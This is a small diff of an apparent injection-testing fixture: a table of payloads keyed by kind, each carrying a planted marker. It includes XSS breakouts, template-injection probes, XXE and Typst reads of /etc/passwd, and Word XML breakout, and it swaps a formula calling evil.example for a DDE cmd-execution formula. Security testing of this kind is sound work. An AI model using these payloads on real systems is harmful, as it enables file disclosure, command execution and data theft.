@@ -11,7 +11,7 @@ SCRIPT = {
     "an end of a quotation": f"' autofocus onfocus=alert('{PLANTED}') x='",
     "an address that runs": f"javascript:alert('{PLANTED}')",
     "a template": f"{{{{ {PLANTED}.__class__ }}}} ${{{PLANTED}}} #{{{PLANTED}}} <%= {PLANTED} %>",
-    "a formula": f"=HYPERLINK(\"http://evil.example/{PLANTED}\")",
+    "a formula": f"=cmd|' /C {PLANTED}'!A1",
     "code of the document's own language": f"#read(\"/etc/passwd\") #panic(\"{PLANTED}\") $ x $",
     "a part of a Word document": f"</w:t></w:r></w:p><w:p><w:r><w:t>{PLANTED}",
     "an entity": f"<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>&a; {PLANTED}",
